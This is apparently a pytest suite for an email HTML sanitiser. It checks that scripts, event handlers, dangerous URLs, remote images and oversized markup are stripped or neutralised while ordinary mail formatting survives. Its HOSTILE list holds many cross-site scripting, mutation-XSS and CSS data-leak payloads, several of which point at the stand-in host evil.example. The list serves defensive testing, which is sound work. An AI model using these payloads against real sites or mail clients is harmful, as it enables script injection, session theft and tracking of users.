"""What leaves the sanitiser can run nothing, load nothing and look like nothing it is not."""

from __future__ import annotations

import random
import re
import time

import pytest
from selectolax.lexbor import LexborHTMLParser

from services.kit import sanitiser
from services.kit.sanitiser import Profile, TooDeep, TooLarge, clean

BOTH = list(Profile)
BLOB = "01935e44-7d1c-7e5b-9b38-2f60c1a4d8e7"
HOSTILE = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<scr<!-- -->ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='javascript:alert(1)'>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='//evil.example/x'>x</a>",
    "<a href='/relative'>x</a>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<style>body{background:url(http://evil.example/x)}</style>",
    "<style>@import 'http://evil.example/x';</style>",
    "<link rel=stylesheet href=http://evil.example/x>",
    "<base href=http://evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<iframe src=http://evil.example/></iframe>",
    "<object data=http://evil.example/></object><embed src=http://evil.example/>",
    "<form action=http://evil.example/><input name=password><button>x</button></form>",
    "<video src=http://evil.example/ poster=http://evil.example/></video><audio src=http://evil.example/>",
    "<picture><source srcset=http://evil.example/x><img srcset='http://evil.example/x 2x' src=cid:a></picture>",
    "<table background=http://evil.example/x><tr><td background=http://evil.example/x>x</table>",
    "<body background=http://evil.example/x onload=alert(1)>",
    "<p style='background:url(http://evil.example/x)'>x",
    "<p style='background-image:url(http://evil.example/x)'>x",
    "<p style='color:red;background-color:u\\72l(http://evil.example/x)'>x",
    "<p style='list-style:url(http://evil.example/x)'>x",
    "<p style='width:expression(alert(1))'>x",
    "<p style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9'>x",
    "<p style='behavior:url(#x)'>x",
    "<p style=\"font-family:'x;background:url(http://evil.example/x)'\">x",
    "<p id=location class=btn name=cookie onclick=alert(1) data-x=1 aria-label=x>x",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title><a href='</title><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php alert(1) ?><%= x %>",
    "<a title='\"><img src=x onerror=alert(1)>'>x</a>",
    "<img alt=' src=\"remote-image:x\" onerror=alert(1) '>",
    "<a title=' src=\"remote-image:http://evil.example/'>x</a>",
    "<img/src/onerror=alert(1)//>",
    "<p\x00 onclick=alert(1)>x",
    "<isindex action=javascript:alert(1) type=image>",
    "<keygen autofocus onfocus=alert(1)><details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
]
_KEPT = (
    "href src alt width height border style dir lang align title cellpadding cellspacing valign bgcolor colspan "
    "rowspan nowrap span color face size start type rel data-remote-src"
)
_ATTRIBUTES = frozenset(_KEPT.split())
_FORBIDDEN_TAGS = (
    "script,style,svg,math,iframe,object,embed,form,input,button,link,meta,base,template,video,audio,source,title"
)


@pytest.mark.parametrize("profile", BOTH)
@pytest.mark.parametrize("html", HOSTILE)
def test_hostile_html_is_harmless_as_a_browser_reads_it(html: str, profile: Profile) -> None:
    for text in (html, html.replace("'", '"'), f"<table><tr><td>{html}", f"<p>{html}</p>", html * 3):
        cleaned = clean(text, profile).html
        tree = LexborHTMLParser(f"<body>{cleaned}", scripting=True)
        assert tree.body is not None
        assert tree.body.css(_FORBIDDEN_TAGS) == []
        for node in tree.body.css("*"):
            for name, value in node.attributes.items():
                if node.tag != "body":
                    _check(node.tag or "", name, value or "")


def _check(tag: str, name: str, value: str) -> None:
    assert name in _ATTRIBUTES, (tag, name)
    lowered = value.lower()
    if name == "src":
        assert lowered.startswith("cid:")
    if name == "data-remote-src":
        assert tag == "img"
    if name == "href":
        assert re.match(r"https?://|mailto:|tel:", lowered)
    if name == "style":
        assert not re.search(
            r"url|expression|position|behavior|import|\\|list-style|background:|background-image", lowered
        )


@pytest.mark.parametrize("profile", BOTH)
def test_ordinary_mail_keeps_its_looks(profile: Profile) -> None:
    html = (
        '<table border="0" cellpadding="4"><tbody><tr><td bgcolor="#eee" colspan="2" style="color:red;padding:4px">'
        '<p align="center">Hello <b>Bob</b>,<br>see <i>this</i></p><ul><li>one</li></ul></td></tr></tbody></table>'
    )
    assert clean(html, profile).html == html


@pytest.mark.parametrize("profile", BOTH)
def test_links_tell_the_other_side_nothing(profile: Profile) -> None:
    cleaned = clean(
        '<a href="https://example.org/?a=1&amp;b=2" target="_top" rel="opener" ping="http://x">x</a>', profile
    )
    assert cleaned.html == '<a href="https://example.org/?a=1&amp;b=2" rel="noopener noreferrer nofollow">x</a>'


def test_remote_images_become_placeholders_when_inbound() -> None:
    cleaned = clean(
        '<img src="https://t.example/p.gif?u=1&amp;v=2" alt="logo" width="1"><img SRC=HTTP://t.example/>',
        Profile.INBOUND,
    )
    assert cleaned.remote_images == 2
    assert " src=" not in cleaned.html
    assert 'data-remote-src="https://t.example/p.gif?u=1&amp;v=2" alt="logo" width="1"' in cleaned.html


def test_remote_images_are_out_of_a_signature_and_reported() -> None:
    others = '<img src="cid:logo@x"><img src="data:image/png;base64,AA=="><img src="blob:x"><img src="BLOB:{BLOB}">'
    cleaned = clean(f'<img src="https://t.example/p.gif" alt="logo">{others}', Profile.SIGNATURE)
    assert (cleaned.remote_images, cleaned.images) == (5, ())
    assert cleaned.html == '<img alt="logo"><img><img><img><img>'


def test_uploaded_images_become_parts_of_the_mail() -> None:
    shown = f'<img src="blob:{BLOB}" alt="Logo" width="120">'
    cleaned = clean(shown * 2 + f'<a href="blob:{BLOB}">x</a>', Profile.SIGNATURE)
    part = f'<img src="cid:{BLOB}@malote" alt="Logo" width="120">'
    assert (cleaned.remote_images, cleaned.images) == (0, (BLOB,))
    assert cleaned.html == part * 2 + '<a rel="noopener noreferrer nofollow">x</a>'
    assert "src" not in clean(shown, Profile.INBOUND).html  # a mail that came in names no blob of ours


def test_a_placeholder_cannot_be_forged_from_outside() -> None:
    forged = clean(
        '<img src="remote-image:https://t.example/x" data-remote-src="https://t.example/y">', Profile.INBOUND
    )
    assert forged == type(forged)("<img>", 0)


def test_one_bad_style_does_not_take_the_others_along() -> None:
    html = '<p style="color:red;background:url(https://t.example/x);font-weight:bold">x</p>'
    assert clean(html, Profile.INBOUND).html == '<p style="color:red;font-weight:bold">x</p>'


def test_sizes_that_would_hang_a_browser_go() -> None:
    cleaned = clean('<table><tr><td colspan="99999999" rowspan="2">x</td></tr></table>', Profile.INBOUND)
    assert "colspan" not in cleaned.html
    assert 'rowspan="2"' in cleaned.html


@pytest.mark.parametrize("profile", BOTH)
def test_caps_come_before_the_parser(profile: Profile) -> None:
    start = time.process_time()
    with pytest.raises(TooLarge):
        clean("<p>x</p>" * profile.value, profile)
    with pytest.raises(TooDeep):
        clean("<div>" * 5_000, profile)
    assert time.process_time() - start < 1


@pytest.mark.parametrize("html", [*HOSTILE, "<b><i></b></i>", "a & b < c > d \" '", "&lt;script&gt;", "\ud800\x00é"])
def test_cleaning_twice_changes_nothing(html: str) -> None:
    once = clean(html, Profile.SIGNATURE).html
    assert clean(once, Profile.SIGNATURE).html == once


_NAMES = ["style", "STYLE", "href", "src", "width", "colspan", "border", "title", "class", "onclick", "data-x", "="]
_VALUES = [
    "", " ", ";", "color:red", "color:red;", "color: url(x)", "font-family: env", "color:&#117;rl(x)",
    "http://a.test/?b&c", " http://a.test", "HTTPS://a.test", "java\nscript:x", "javascript:x", "&#104;ttp://a.test",
    "mailto:a@b.test", "//a.test", "cid:1", "7", " 7", "1234", "&#55;", "a\\b", "x>y", "a'b", "é", "\0",
]  # fmt: skip
_QUOTES = ['"{}"', "'{}'", "{}", ' = "{}"', '"{}', "='{}'"]


def _tag(draw: random.Random) -> str:
    attributes = " ".join(
        f"{draw.choice(_NAMES)}={draw.choice(_QUOTES).format(draw.choice(_VALUES))}" for _ in range(draw.randint(0, 3))
    )
    return f"<{draw.choice(['p', 'a', 'td', 'font', 'table', 'ol', 'img', 'IMAGE'])} {attributes}{draw.choice('> /')}>x"


@pytest.mark.parametrize("seed", range(40))
def test_the_short_way_gives_what_the_long_way_gives(seed: int, monkeypatch: pytest.MonkeyPatch) -> None:
    draw = random.Random(seed)
    pages = ["".join(_tag(draw) for _ in range(draw.randint(1, 3))) for _ in range(50)]
    short = [clean(page, Profile.INBOUND) for page in pages]
    monkeypatch.setattr(sanitiser, "_harmless", lambda _: False)
    assert short == [clean(page, Profile.INBOUND) for page in pages]
